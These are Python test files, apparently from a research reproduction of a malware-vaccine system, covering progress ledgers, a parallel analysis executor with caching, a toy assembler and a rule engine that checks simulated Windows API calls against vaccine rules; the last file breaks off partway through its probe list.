        fold = LedgerFold(population=3, started_unix=0.0)
        fold.apply({"kind": "sample.started", "index": 0})
        assert len(fold.active) == 1 and fold.queued == 2
        fold.apply({"kind": "sample.phase", "phase": "impact", "seconds": 0.5})
        fold.apply({"kind": "sample.retry", "index": 0, "attempt": 1})
        assert fold.retries == 1 and len(fold.retrying) == 1 and not fold.active
        fold.apply({"kind": "sample.started", "index": 0})
        assert not fold.retrying and len(fold.active) == 1
        fold.apply({"kind": "sample.completed", "index": 0})
        assert fold.completed == 1 and not fold.active
        assert "impact" in fold.phase_summary()
        line = fold.progress_line(now=10.0)
        assert "1/3 done" in line and "impact" in line

    def test_rate_uses_monotonic_clock_not_wall(self):
        import time as _time

        ticks = iter([100.0, 110.0, 110.0])  # created at 100, queried at 110
        fold = LedgerFold(population=4, clock=lambda: next(ticks))
        # Simulate a wall-clock step: started_unix lands in the future.  A
        # wall-based elapsed would be negative and the rate would clamp to 0.
        fold.started_unix = _time.time() + 3600.0
        fold.apply({"kind": "sample.completed", "index": 0})
        assert fold.rate() == pytest.approx(0.1)
        assert fold.eta_seconds() == pytest.approx(30.0)
        # An explicit now= stays on the caller's timeline (deterministic
        # test path): elapsed is measured against started_unix.
        assert fold.rate(now=fold.started_unix + 20.0) == pytest.approx(0.05)

    def test_metrics_row_keeps_wall_timestamp_with_monotonic_rate(self):
        import time as _time

        ticks = iter([50.0, 60.0])
        fold = LedgerFold(population=2, clock=lambda: next(ticks))
        fold.apply({"kind": "sample.completed", "index": 0})
        before = _time.time()
        row = fold.metrics_row()
        after = _time.time()
        # "t" is wall-clock (readers correlate it with ledger events)...
        assert before <= row["t"] <= after
        # ...while the rate came off the injected monotonic clock.
        assert row["rate_per_s"] == pytest.approx(0.1)

    def test_telemetry_duration_uses_monotonic_clock(self, tmp_path):
        ticks = iter([1000.0, 1017.25])  # init, finish
        manifest = {
            "version": ledger.MANIFEST_VERSION,
            "run_id": "run-test-monotonic",
            "status": "running",
            "population": 0,
            "started_unix": 0.0,  # wall clock an hour+ out of step
            "pid": os.getpid(),
        }
        telemetry = RunTelemetry(
            tmp_path,
            manifest,
            ledger.Collector(tmp_path, LedgerFold(population=0)),
            clock=lambda: next(ticks),
        )
        finished = telemetry.finish()
        # Duration is measured on the injected monotonic clock, not as
        # finished_unix - started_unix (which would be ~the epoch offset).
        assert finished["duration_seconds"] == pytest.approx(17.25)
        assert finished["finished_unix"] > 1e9

    def test_progress_view_non_tty(self):
        import io

        out = io.StringIO()
        view = ProgressView(out=out, interval=0.0)
        fold = LedgerFold(population=2, started_unix=0.0)
        view.update(fold, force=True)
        fold.apply({"kind": "sample.completed", "index": 0})
        view.close(fold)
        lines = out.getvalue().splitlines()
        assert lines[0].startswith("0/2 done")
        assert lines[-1].startswith("1/2 done")


class TestManifest:
    def test_read_manifest_errors_are_clear(self, tmp_path):
        with pytest.raises(ValueError, match="not a run directory"):
            read_manifest(tmp_path)
        (tmp_path / ledger.MANIFEST_NAME).write_text("{half")
        with pytest.raises(ValueError, match="corrupt run manifest"):
            read_manifest(tmp_path)
        (tmp_path / ledger.MANIFEST_NAME).write_text('{"no": "run id"}')
        with pytest.raises(ValueError, match="not a repro run manifest"):
            read_manifest(tmp_path)

    def test_stale_run_detected_by_dead_pid(self, tmp_path):
        telemetry = RunTelemetry.begin(tmp_path, population=1)
        manifest = read_manifest(tmp_path)
        assert manifest_status(manifest) == "running"  # we are alive
        manifest["pid"] = 2**30  # certainly not a live pid
        assert manifest_status(manifest) == "stale"
        telemetry.finish()
        assert manifest_status(read_manifest(tmp_path)) == "finished"

    def test_finish_is_idempotent(self, tmp_path):
        telemetry = RunTelemetry.begin(tmp_path, population=0)
        first = telemetry.finish()
        assert telemetry.finish() is first

    def test_list_runs_skips_corrupt_manifests(self, tmp_path, programs):
        analyze_population(
            programs[:1], config=fast_config(), jobs=1, run_dir=tmp_path / "good"
        )
        bad = tmp_path / "bad"
        bad.mkdir()
        (bad / ledger.MANIFEST_NAME).write_text("{nope")
        runs = list_runs(tmp_path)
        assert len(runs) == 1
        assert runs[0]["status"] == "finished"
        assert "finished" in describe_manifest(runs[0])


class TestRenderEvent:
    def test_known_kinds_render_compactly(self):
        events = [
            {"t": 1.5, "kind": "run.started", "run_id": "r", "population": 4},
            {"t": 2.0, "kind": "sample.started", "sample": "zeus", "attempt": 1},
            {"t": 2.1, "kind": "sample.phase", "sample": "zeus", "phase": "impact",
             "seconds": 0.034},
            {"t": 2.2, "kind": "sample.timeout", "sample": "zeus", "attempt": 1},
            {"t": 2.3, "kind": "sample.retry", "sample": "zeus", "attempt": 1,
             "failure_kind": "timeout", "error": "TimeoutError"},
            {"t": 2.4, "kind": "cache.hit", "sample": "zeus", "negative": True},
            {"t": 2.5, "kind": "sample.completed", "sample": "zeus", "vaccines": 2,
             "cached": True},
            {"t": 2.6, "kind": "sample.failed", "sample": "zeus",
             "failure_kind": "crash", "error": "ValueError", "attempts": 2},
            {"t": 2.7, "kind": "run.finished", "completed": 3, "failed": 1},
            {"t": 2.8, "kind": "mystery.kind", "detail": 1},
        ]
        lines = [render_event(e, started_unix=1.0) for e in events]
        assert "over 4 samples" in lines[0]
        assert "impact" in lines[2] and "34.0ms" in lines[2]
        assert "negative cache" in lines[5]
        assert "[cached]" in lines[6]
        assert "after 2 attempt(s)" in lines[7]
        assert "mystery.kind" in lines[9] and "detail=1" in lines[9]


class TestCliIntegration:
    def test_survey_run_dir_then_tail_and_runs(self, tmp_path, capsys):
        run_dir = tmp_path / "run"
        assert (
            main(
                ["survey", "--size", "6", "--seed", "3", "--jobs", "2",
                 "--run-dir", str(run_dir)]
            )
            == 0
        )
        out = capsys.readouterr().out
        assert "run dir:" in out

        assert main(["tail", str(run_dir)]) == 0
        out = capsys.readouterr().out
        assert "run.started" in out
        assert out.count("sample.completed") == 6
        assert "run.finished" in out
        assert "finished" in out.splitlines()[-1]

        assert main(["tail", str(run_dir), "--json"]) == 0
        out = capsys.readouterr().out
        events = [json.loads(line) for line in out.splitlines()]
        assert events[0]["kind"] == "run.started"

        assert main(["runs", str(tmp_path)]) == 0
        out = capsys.readouterr().out
        assert "finished" in out and "samples=6" in out

        assert main(["runs", str(run_dir)]) == 0
        out = capsys.readouterr().out
        assert out.startswith("# Run ") and "| completed | 6 |" in out

    def test_tail_rejects_non_run_dir(self, tmp_path):
        with pytest.raises(SystemExit, match="not a run directory"):
            main(["tail", str(tmp_path)])

    def test_runs_empty_dir(self, tmp_path, capsys):
        assert main(["runs", str(tmp_path)]) == 1
        assert "no runs under" in capsys.readouterr().out

    def test_survey_progress_without_run_dir_uses_tempdir(self, capsys, monkeypatch):
        import tempfile

        made = {}
        real = tempfile.mkdtemp

        def tracking_mkdtemp(**kw):
            made["dir"] = real(**kw)
            return made["dir"]

        monkeypatch.setattr(tempfile, "mkdtemp", tracking_mkdtemp)
        assert main(["survey", "--size", "4", "--seed", "3", "--progress"]) == 0
        assert "run dir:" in capsys.readouterr().out
        manifest = read_manifest(made["dir"])
        assert manifest["status"] == "finished"
        assert manifest["outcomes"]["completed"] == 4
