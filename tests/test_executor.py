"""Parallel executor, result cache, metrics merging, shard merging.

The determinism regression at the heart of this module: the same seeded
population must produce byte-identical vaccine sets and identical
PopulationResult tables for any ``jobs`` level and for cold vs warm cache —
that is what makes fanning the paper's 1,716-sample workload out to worker
processes a pure speedup.
"""

from __future__ import annotations

import json
import os

import pytest

from repro import obs
from repro.campaign import build_fleet_package
from repro.core import AutoVac
from repro.core.executor import (
    PipelineConfig,
    ResultCache,
    analyze_population,
    config_for,
)
from repro.core.pipeline import PopulationResult
from repro.corpus import GeneratorConfig, build_family, generate_population
from repro.obs.metrics import MetricsRegistry

SIZE = 12
SEED = 5


@pytest.fixture(scope="module")
def programs():
    return [
        s.program for s in generate_population(GeneratorConfig(size=SIZE, seed=SEED))
    ]


@pytest.fixture(scope="module")
def config():
    return PipelineConfig()


def vaccine_bytes(result: PopulationResult) -> str:
    """Canonical byte form of the whole vaccine set (order-sensitive)."""
    return json.dumps([v.to_dict() for v in result.vaccines], sort_keys=True)


def tables(result: PopulationResult) -> dict:
    return {
        "resource_immunization": result.count_by_resource_and_immunization(),
        "identifier_kind": result.count_by_identifier_kind(),
        "delivery": result.count_by_delivery(),
        "occurrences": result.occurrence_stats(),
        "resource_ops": result.resource_operation_stats(),
        "category_resource": result.count_by_category_and_resource(),
        "category_delivery": result.count_by_category_and_delivery(),
    }


class TestParallelDeterminism:
    def test_jobs4_matches_jobs1(self, programs, config):
        seq = analyze_population(programs, config=config, jobs=1)
        par = analyze_population(programs, config=config, jobs=4)
        assert vaccine_bytes(par) == vaccine_bytes(seq)
        assert tables(par) == tables(seq)

    def test_parallel_metrics_and_spans(self, programs, config):
        obs.reset()
        result = analyze_population(programs, config=config, jobs=4)
        assert len(result.analyses) == SIZE
        # Worker snapshots folded into the parent registry.
        assert obs.metrics.value("pipeline.samples") == SIZE
        assert obs.metrics.value("pipeline.vaccines") == len(result.vaccines)
        snapshot = obs.metrics.snapshot()
        hist = snapshot["pipeline.analyze_seconds"]["series"][0]
        assert hist["count"] == SIZE
        assert hist["sum"] > 0
        # Worker span trees adopted: one pipeline.analyze root per sample.
        roots = [s for s in obs.trace.roots if s.name == "pipeline.analyze"]
        assert len(roots) == SIZE
        # The progress gauge ends at the population size even though worker
        # completion order is arbitrary.
        assert obs.metrics.value("pipeline.population_analyzed") == SIZE

    def test_parallel_results_keep_input_order(self, programs, config):
        result = analyze_population(programs, config=config, jobs=4)
        assert [a.program.name for a in result.analyses] == [
            p.name for p in programs
        ]

    def test_sequential_gauge_reaches_population_size(self, programs, config):
        obs.reset()
        analyze_population(programs, config=config, jobs=1)
        assert obs.metrics.value("pipeline.population_analyzed") == SIZE


class TestResultCache:
    def test_cold_then_warm_is_identical_and_all_hits(self, programs, config, tmp_path):
        obs.reset()
        cold = analyze_population(programs, config=config, jobs=1, cache=tmp_path)
        assert obs.metrics.value("pipeline.cache_misses") == SIZE
        assert obs.metrics.value("pipeline.cache_stores") == SIZE

        obs.reset()
        warm = analyze_population(programs, config=config, jobs=1, cache=tmp_path)
        assert obs.metrics.value("pipeline.cache_hits") == SIZE
        assert obs.metrics.value("pipeline.samples") == 0  # nothing re-analyzed
        assert obs.metrics.value("pipeline.population_analyzed") == SIZE
        assert vaccine_bytes(warm) == vaccine_bytes(cold)
        assert tables(warm) == tables(cold)

    def test_interrupted_survey_resumes_missing_samples_only(
        self, programs, config, tmp_path
    ):
        # "Interrupted" run: only the first half made it into the cache.
        analyze_population(programs[: SIZE // 2], config=config, jobs=1, cache=tmp_path)
        obs.reset()
        full = analyze_population(programs, config=config, jobs=2, cache=tmp_path)
        assert obs.metrics.value("pipeline.cache_hits") == SIZE // 2
        assert obs.metrics.value("pipeline.cache_misses") == SIZE - SIZE // 2
        # Only the missing half went through the pipeline.
        assert obs.metrics.value("pipeline.samples") == SIZE - SIZE // 2
        assert len(full.analyses) == SIZE
        reference = analyze_population(programs, config=config, jobs=1)
        assert vaccine_bytes(full) == vaccine_bytes(reference)

    def test_key_depends_on_program_and_config(self, config, tmp_path):
        cache = ResultCache(tmp_path)
        zeus, conficker = build_family("zeus"), build_family("conficker")
        assert cache.key(zeus, config) != cache.key(conficker, config)
        other = PipelineConfig(explore_paths=True)
        assert cache.key(zeus, config) != cache.key(zeus, other)
        assert cache.key(zeus, config) == cache.key(build_family("zeus"), config)

    def test_corrupt_entry_reads_as_miss_and_is_evicted(self, config, tmp_path):
        obs.reset()
        cache = ResultCache(tmp_path)
        program = build_family("zeus")
        key = cache.key(program, config)
        path = cache._path(key)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{not json")
        assert cache.load(key) is None
        # The undecodable file is unlinked, not left to be re-read forever.
        assert not path.exists()
        assert obs.metrics.value("pipeline.cache_evictions") == 1
        # A second probe is a plain miss on an absent file: no double-evict.
        assert cache.load(key) is None
        assert obs.metrics.value("pipeline.cache_evictions") == 1

    def test_version_skewed_entry_is_evicted(self, config, tmp_path):
        cache = ResultCache(tmp_path)
        program = build_family("zeus")
        key = cache.key(program, config)
        path = cache._path(key)
        path.parent.mkdir(parents=True, exist_ok=True)
        # Valid JSON, but not a decodable analysis payload.
        path.write_text(json.dumps({"format_version": 99}))
        assert cache.load(key) is None
        assert not path.exists()

    def test_stale_tmp_litter_swept_on_open(self, config, tmp_path):
        obs.reset()
        cache = ResultCache(tmp_path)
        program = build_family("zeus")
        key = cache.key(program, config)
        path = cache._path(key)
        path.parent.mkdir(parents=True, exist_ok=True)
        # Orphan left by a writer that died between write_text and replace
        # (a pid far above any kernel pid_max, so definitely not running).
        dead = path.with_suffix(".tmp.999999999")
        dead.write_text("{partial")
        # A live writer's tmp (our own pid) must be left alone.
        ours = path.with_suffix(f".tmp.{os.getpid()}")
        ours.write_text("{in progress")
        removed = cache.sweep_stale()
        assert removed == 1
        assert not dead.exists()
        assert ours.exists()
        assert obs.metrics.value("pipeline.cache_tmp_swept") == 1
        ours.unlink()

    def test_sweep_runs_on_cache_open(self, config, tmp_path):
        cache = ResultCache(tmp_path)
        program = build_family("zeus")
        path = cache._path(cache.key(program, config))
        path.parent.mkdir(parents=True, exist_ok=True)
        orphan = path.with_suffix(".tmp.999999999")
        orphan.write_text("{partial")
        ResultCache(tmp_path)  # re-open sweeps
        assert not orphan.exists()


class TestPopulationResultMerge:
    def test_merge_then_count_equals_count_then_sum(self, programs, config):
        whole = analyze_population(programs, config=config, jobs=1)
        shards = [
            analyze_population(programs[i : i + 4], config=config, jobs=1)
            for i in range(0, SIZE, 4)
        ]
        merged = shards[0].merge(*shards[1:])
        assert len(merged.analyses) == SIZE
        assert tables(merged) == tables(whole)

        # count-then-sum over shards reproduces every merged table cell.
        for name in ("count_by_resource_and_immunization", "resource_operation_stats"):
            summed: dict = {}
            for shard in shards:
                for row_key, row in getattr(shard, name)().items():
                    acc = summed.setdefault(row_key, {})
                    for col, n in row.items():
                        acc[col] = acc.get(col, 0) + n
            assert summed == getattr(merged, name)()
        summed_occ = {"total": 0, "influential": 0}
        for shard in shards:
            for key, n in shard.occurrence_stats().items():
                summed_occ[key] += n
        assert summed_occ == merged.occurrence_stats()

    def test_merge_does_not_mutate_inputs(self, programs, config):
        a = analyze_population(programs[:2], config=config, jobs=1)
        b = analyze_population(programs[2:4], config=config, jobs=1)
        merged = a.merge(b)
        assert len(a.analyses) == 2 and len(b.analyses) == 2
        assert len(merged.analyses) == 4


class TestMetricsMerge:
    def test_counters_and_gauges_add(self):
        worker = MetricsRegistry()
        worker.counter("c", help="h").inc(3)
        worker.counter("c", api="X").inc(2)
        worker.gauge("g").set(5)
        parent = MetricsRegistry()
        parent.counter("c").inc(1)
        parent.merge(worker.snapshot())
        parent.merge(worker.snapshot())
        assert parent.value("c") == 7  # 1 + 3 + 3
        assert parent.value("c", api="X") == 4
        assert parent.value("g") == 10
        assert parent.total("c") == 11

    def test_histograms_merge_elementwise(self):
        worker = MetricsRegistry()
        for v in (0.001, 0.2, 50.0):
            worker.histogram("h").observe(v)
        parent = MetricsRegistry()
        parent.histogram("h").observe(0.001)
        parent.merge(worker.snapshot())
        series = parent.snapshot()["h"]["series"][0]
        assert series["count"] == 4
        assert series["min"] == 0.001 and series["max"] == 50.0
        assert abs(series["sum"] - 50.202) < 1e-9
        assert sum(series["bucket_counts"]) == 4
        assert series["bucket_counts"][-1] == 1  # the 50s overflow observation

    def test_histograms_rebin_on_foreign_buckets(self):
        worker = MetricsRegistry()
        worker.histogram("h", buckets=(1.0, 10.0)).observe(0.5)
        worker.histogram("h", buckets=(1.0, 10.0)).observe(5.0)
        worker.histogram("h", buckets=(1.0, 10.0)).observe(100.0)
        parent = MetricsRegistry()
        parent.histogram("h", buckets=(2.0, 20.0)).observe(1.5)
        parent.merge(worker.snapshot())
        series = parent.snapshot()["h"]["series"][0]
        assert series["count"] == 4
        assert sum(series["bucket_counts"]) == 4
        # 0.5 and 1.5 land <=2.0; the 1-10 bucket re-bins to <=20; 100 overflows.
        assert series["bucket_counts"] == [2, 1, 1]

    def test_merged_totals_equal_sum_of_worker_snapshots(self):
        workers = []
        for i in range(3):
            reg = MetricsRegistry()
            reg.counter("pipeline.samples").inc(i + 1)
            reg.histogram("t").observe(0.01 * (i + 1))
            workers.append(reg.snapshot())
        parent = MetricsRegistry()
        for snap in workers:
            parent.merge(snap)
        assert parent.value("pipeline.samples") == sum(
            s["pipeline.samples"]["series"][0]["value"] for s in workers
        )
        merged_hist = parent.snapshot()["t"]["series"][0]
        assert merged_hist["count"] == 3
        assert abs(merged_hist["sum"] - 0.06) < 1e-12

    def test_disabled_registry_ignores_merge(self):
        worker = MetricsRegistry()
        worker.counter("c").inc()
        parent = MetricsRegistry()
        parent.enabled = False
        parent.merge(worker.snapshot())
        parent.enabled = True
        assert parent.value("c") == 0.0


class TestConfigPlumbing:
    def test_autovac_analyze_population_accepts_jobs(self, programs):
        result = AutoVac().analyze_population(programs[:4], jobs=2)
        reference = AutoVac().analyze_population(programs[:4])
        assert vaccine_bytes(result) == vaccine_bytes(reference)

    def test_config_for_rejects_clinic(self):
        autovac = AutoVac(run_clinic=True, clinic_programs=[build_family("zeus")])
        with pytest.raises(ValueError, match="clinic"):
            config_for(autovac)

    def test_config_for_rejects_custom_aligner(self):
        autovac = AutoVac(aligner=lambda a, b: None)
        with pytest.raises(ValueError, match="aligner"):
            config_for(autovac)

    def test_config_for_round_trips_flags(self):
        autovac = AutoVac(explore_paths=True, exclusiveness_enabled=False,
                          profile_budget=12_345, validate_replay=False)
        cfg = config_for(autovac)
        assert cfg == PipelineConfig(
            profile_budget=12_345,
            validate_replay=False,
            exclusiveness_enabled=False,
            explore_paths=True,
        )

    def test_unknown_aligner_name_raises(self):
        with pytest.raises(ValueError, match="unknown aligner"):
            PipelineConfig(aligner="nope").build()


def test_build_fleet_package_matches_direct_analysis(programs):
    package = build_fleet_package(programs[:4], jobs=2)
    reference = analyze_population(programs[:4], config=PipelineConfig(), jobs=1)
    assert [v.to_dict() for v in package.vaccines] == [
        v.to_dict() for v in reference.vaccines
    ]
    assert package.description == "fleet vaccination campaign"
