"""Assembler tests: parsing, sections, labels, operands, errors."""

import pytest

from repro.vm import (
    ApiRef,
    AssemblyError,
    DATA_BASE,
    Imm,
    Mem,
    RDATA_BASE,
    Reg,
    TEXT_BASE,
    assemble,
)


class TestSectionsAndLabels:
    def test_text_labels_address_instructions(self):
        prog = assemble(".section .text\nmain:\n    nop\nsecond:\n    halt\n")
        assert prog.labels["main"] == TEXT_BASE
        assert prog.labels["second"] == TEXT_BASE + 1

    def test_entry_prefers_main(self):
        prog = assemble("start:\n    nop\nmain:\n    halt\n")
        assert prog.entry == prog.labels["main"]

    def test_entry_falls_back_to_start(self):
        prog = assemble("start:\n    halt\n")
        assert prog.entry == prog.labels["start"]

    def test_rdata_labels_address_bytes(self):
        prog = assemble('.section .rdata\na: .asciz "xy"\nb: .asciz "z"\n.section .text\n    halt\n')
        assert prog.labels["a"] == RDATA_BASE
        assert prog.labels["b"] == RDATA_BASE + 3  # "xy\0"

    def test_data_section_base(self):
        prog = assemble(".section .data\nbuf: .space 8\n.section .text\n    halt\n")
        assert prog.labels["buf"] == DATA_BASE

    def test_duplicate_label_rejected(self):
        with pytest.raises(AssemblyError):
            assemble("a:\n    nop\na:\n    halt\n")

    def test_label_with_instruction_on_same_line(self):
        prog = assemble("main: nop\n    halt\n")
        assert len(prog.instructions) == 2


class TestDataDirectives:
    def test_asciz_null_terminates(self):
        prog = assemble('.section .rdata\ns: .asciz "ab"\n.section .text\n    halt\n')
        assert prog.sections[0].image == b"ab\x00"

    def test_ascii_no_terminator(self):
        prog = assemble('.section .rdata\ns: .ascii "ab"\n.section .text\n    halt\n')
        assert prog.sections[0].image == b"ab"

    def test_string_escapes(self):
        prog = assemble('.section .rdata\ns: .asciz "a\\\\b\\n\\x41"\n.section .text\n    halt\n')
        assert prog.sections[0].image == b"a\\b\nA\x00"

    def test_dword_little_endian(self):
        prog = assemble(".section .rdata\nd: .dword 0x01020304\n.section .text\n    halt\n")
        assert prog.sections[0].image == b"\x04\x03\x02\x01"

    def test_dword_multiple_values(self):
        prog = assemble(".section .rdata\nd: .dword 1, 2\n.section .text\n    halt\n")
        assert len(prog.sections[0].image) == 8

    def test_space_zero_filled(self):
        prog = assemble(".section .data\nb: .space 4\n.section .text\n    halt\n")
        assert prog.sections[1].image == b"\x00" * 4

    def test_byte_directive(self):
        prog = assemble(".section .data\nb: .byte 1, 0xFF\n.section .text\n    halt\n")
        assert prog.sections[1].image == b"\x01\xff"

    def test_unknown_directive_rejected(self):
        with pytest.raises(AssemblyError):
            assemble(".section .data\nx: .quad 1\n.section .text\n    halt\n")


class TestOperandParsing:
    def test_register_operand(self):
        prog = assemble("    mov eax, ebx\n    halt\n")
        assert prog.instructions[0].operands == (Reg("eax"), Reg("ebx"))

    def test_hex_and_decimal_immediates(self):
        prog = assemble("    mov eax, 0x10\n    mov ebx, 16\n    halt\n")
        assert prog.instructions[0].operands[1] == Imm(0x10)
        assert prog.instructions[1].operands[1] == Imm(16)

    def test_char_immediate(self):
        prog = assemble("    mov eax, 'A'\n    halt\n")
        assert prog.instructions[0].operands[1] == Imm(65)

    def test_label_immediate_resolves(self):
        prog = assemble('.section .rdata\ns: .asciz "x"\n.section .text\n    push s\n    halt\n')
        assert prog.instructions[0].operands[0].value == RDATA_BASE

    def test_label_plus_offset(self):
        prog = assemble(".section .data\nb: .space 8\n.section .text\n    push b+4\n    halt\n")
        assert prog.instructions[0].operands[0].value == DATA_BASE + 4

    def test_memory_base_displacement(self):
        prog = assemble("    mov eax, [ebp-0x1c]\n    halt\n")
        mem = prog.instructions[0].operands[1]
        assert mem == Mem(base="ebp", disp=-0x1C)

    def test_memory_base_index_scale(self):
        prog = assemble("    mov eax, [ebx+esi*4+8]\n    halt\n")
        mem = prog.instructions[0].operands[1]
        assert (mem.base, mem.index, mem.scale, mem.disp) == ("ebx", "esi", 4, 8)

    def test_memory_label_plus_index(self):
        prog = assemble(".section .data\nb: .space 8\n.section .text\n    movb eax, [b+esi]\n    halt\n")
        mem = prog.instructions[0].operands[1]
        assert mem.disp == DATA_BASE and mem.index is None and mem.base == "esi"

    def test_byte_memory_operand(self):
        prog = assemble(".section .data\nb: .space 4\n.section .text\n    movb byte [b], 1\n    halt\n")
        assert prog.instructions[0].operands[0].size == 1

    def test_api_ref(self):
        prog = assemble("    call @GetTickCount\n    halt\n")
        assert prog.instructions[0].operands[0] == ApiRef("GetTickCount")

    def test_undefined_symbol_rejected(self):
        with pytest.raises(AssemblyError):
            assemble("    push missing\n    halt\n")

    def test_unknown_mnemonic_rejected(self):
        with pytest.raises(ValueError):
            assemble("    frobnicate eax\n    halt\n")

    def test_comment_stripping(self):
        prog = assemble("    nop ; a comment with ; semicolons\n    halt\n")
        assert len(prog.instructions) == 2

    def test_semicolon_inside_string_preserved(self):
        prog = assemble('.section .rdata\ns: .asciz "a;b"\n.section .text\n    halt\n')
        assert prog.sections[0].image == b"a;b\x00"


class TestDisassembly:
    def test_roundtrip_contains_labels_and_instructions(self):
        prog = assemble("main:\n    mov eax, 1\n    halt\n")
        text = prog.disassemble()
        assert "main:" in text and "mov eax, 0x1" in text

    def test_source_preserved(self):
        src = "main:\n    halt\n"
        assert assemble(src).source == src
