"""Unified enforcement engine + temporal API-policy synthesis.

Covers the shared :class:`RuleEngine` (the one matching implementation the
daemon, clinic and campaign all consume), the clinic prefix-matching
regression it fixes, temporal policy synthesis (boundary split, benign
subtraction), daemon enforcement of policy deny rules, and clinic
certification via :func:`validate_policy`.
"""

from __future__ import annotations

import pytest

from repro import obs
from repro.core import AutoVac
from repro.core.policy import (
    ACQUISITION_OPERATIONS,
    PolicyRule,
    TemporalApiPolicy,
    synthesize_policy,
    validate_policy,
)
from repro.core.vaccine import IdentifierKind, Immunization, Mechanism, Vaccine
from repro.corpus import build_family
from repro.corpus.benign import benign_suite
from repro.delivery.daemon import VaccineDaemon
from repro.delivery.engine import RuleEngine
from repro.obs import summarize_event
from repro.tracing.events import ApiCallEvent
from repro.winapi.dispatcher import Interception
from repro.winenv import SystemEnvironment
from repro.winenv.objects import Operation, ResourceType


def _event(
    api: str = "CreateFileA",
    rtype: ResourceType = ResourceType.FILE,
    identifier: str = "c:\\x.txt",
    operation: Operation = Operation.CREATE,
    seq: int = 0,
) -> ApiCallEvent:
    return ApiCallEvent(
        event_id=seq + 1,
        seq=seq,
        api=api,
        caller_pc=0x10,
        args=(),
        identifier=identifier,
        resource_type=rtype,
        operation=operation,
    )


def _vaccine(
    identifier: str = "EvilMutex",
    rtype: ResourceType = ResourceType.MUTEX,
    kind: IdentifierKind = IdentifierKind.STATIC,
    mechanism: Mechanism = Mechanism.SIMULATE_PRESENCE,
    pattern: str = None,
) -> Vaccine:
    return Vaccine(
        malware="testware",
        resource_type=rtype,
        identifier=identifier,
        identifier_kind=kind,
        mechanism=mechanism,
        immunization=Immunization.FULL,
        pattern=pattern,
    )


@pytest.fixture(scope="module")
def sality_analysis():
    return AutoVac().analyze(build_family("sality"))


# ---------------------------------------------------------------------------
# RuleEngine semantics
# ---------------------------------------------------------------------------


class TestRuleEngine:
    def test_exact_match_is_normalized(self):
        engine = RuleEngine.compile(
            vaccines=[_vaccine("C:\\Windows\\EVIL.SYS", rtype=ResourceType.FILE)]
        )
        rule = engine.match(ResourceType.FILE, "c:\\windows\\evil.sys")
        assert rule is not None and rule.origin == "vaccine"
        # mutex names stay case-sensitive
        engine = RuleEngine.compile(vaccines=[_vaccine("EvilMutex")])
        assert engine.match(ResourceType.MUTEX, "EvilMutex") is not None
        assert engine.match(ResourceType.MUTEX, "evilmutex") is None

    def test_pattern_is_fullmatch_not_prefix(self):
        engine = RuleEngine.compile(
            vaccines=[
                _vaccine(
                    "abcdefgh",
                    kind=IdentifierKind.PARTIAL_STATIC,
                    pattern=r"[a-z]{8}",
                )
            ]
        )
        assert engine.match(ResourceType.MUTEX, "abcdefgh") is not None
        # a mere prefix hit must not count — this is the clinic bug class
        assert engine.match(ResourceType.MUTEX, "abcdefghi") is None
        assert engine.match(ResourceType.MUTEX, "abcdefg") is None

    def test_first_rule_in_insertion_order_wins(self):
        first = _vaccine("Shared")
        second = _vaccine("Shared", mechanism=Mechanism.ENFORCE_FAILURE)
        engine = RuleEngine.compile(vaccines=[first, second])
        hit = engine.match(ResourceType.MUTEX, "Shared")
        assert hit.source is first

    def test_pattern_rule_can_precede_exact(self):
        pat = _vaccine(
            "aaaa", kind=IdentifierKind.PARTIAL_STATIC, pattern=r"[a-z]{4}"
        )
        exact = _vaccine("aaaa")
        engine = RuleEngine.compile(vaccines=[pat, exact])
        assert engine.match(ResourceType.MUTEX, "aaaa").source is pat

    def test_operation_restriction(self):
        rule = PolicyRule(
            resource_type=ResourceType.SERVICE,
            identifier="evilsvc",
            operations=frozenset({Operation.CREATE}),
        )
        policy = TemporalApiPolicy(sample="t", boundary_seq=0, deny=[rule])
        engine = RuleEngine.compile(policies=[policy])
        assert engine.match(ResourceType.SERVICE, "evilsvc", Operation.CREATE)
        assert engine.match(ResourceType.SERVICE, "evilsvc", Operation.CHECK) is None

    def test_match_all_returns_every_hit_in_order(self):
        v1 = _vaccine("Both")
        v2 = _vaccine("Both", kind=IdentifierKind.PARTIAL_STATIC, pattern=r"Bo.h")
        engine = RuleEngine.compile(vaccines=[v1, v2])
        hits = engine.match_all(ResourceType.MUTEX, "Both")
        assert [h.source for h in hits] == [v1, v2]

    def test_decide_verdicts(self):
        enforce = _vaccine(
            "c:\\evil.sys",
            rtype=ResourceType.FILE,
            mechanism=Mechanism.ENFORCE_FAILURE,
        )
        simulate = _vaccine("Marker")
        engine = RuleEngine.compile(vaccines=[enforce, simulate])
        verdict, _ = engine.decide(
            _event(rtype=ResourceType.FILE, identifier="c:\\evil.sys")
        )
        assert verdict is Interception.FORCE_FAIL
        verdict, _ = engine.decide(
            _event(rtype=ResourceType.MUTEX, identifier="Marker",
                   operation=Operation.CREATE)
        )
        assert verdict is Interception.FORCE_FAIL_EXISTS
        verdict, _ = engine.decide(
            _event(rtype=ResourceType.MUTEX, identifier="Marker",
                   operation=Operation.CHECK)
        )
        assert verdict is Interception.FORCE_SUCCESS
        verdict, rule = engine.decide(
            _event(rtype=ResourceType.MUTEX, identifier="Unrelated")
        )
        assert verdict is Interception.PASS and rule is None

    def test_origin_bookkeeping(self):
        policy = TemporalApiPolicy(
            sample="t",
            boundary_seq=0,
            deny=[PolicyRule(ResourceType.MUTEX, "Bad")],
        )
        engine = RuleEngine.compile(vaccines=[_vaccine()], policies=[policy])
        assert len(engine) == 2
        assert [r.origin for r in engine.rules_from("policy")] == ["policy"]
        assert [r.origin for r in engine.rules_from("vaccine")] == ["vaccine"]


# ---------------------------------------------------------------------------
# Shared semantics: daemon / clinic / campaign drive the same engine
# ---------------------------------------------------------------------------


class TestSharedSemantics:
    """The acceptance criterion: the same rule set yields identical verdicts
    through the daemon interception path, the clinic attribution path and
    the campaign accounting path."""

    VACCINES = [
        _vaccine("EvilMutex", mechanism=Mechanism.SIMULATE_PRESENCE),
        _vaccine(
            "c:\\windows\\evil.sys",
            rtype=ResourceType.FILE,
            mechanism=Mechanism.ENFORCE_FAILURE,
        ),
        _vaccine(
            "abcd1234",
            rtype=ResourceType.MUTEX,
            kind=IdentifierKind.PARTIAL_STATIC,
            pattern=r"[a-z]{4}[0-9]{4}",
        ),
    ]

    PROBES = [
        _event("CreateMutexA", ResourceType.MUTEX, "EvilMutex", Operation.CREATE),
        _event("OpenMutexA", ResourceType.MUTEX, "EvilMutex", Operation.CHECK),
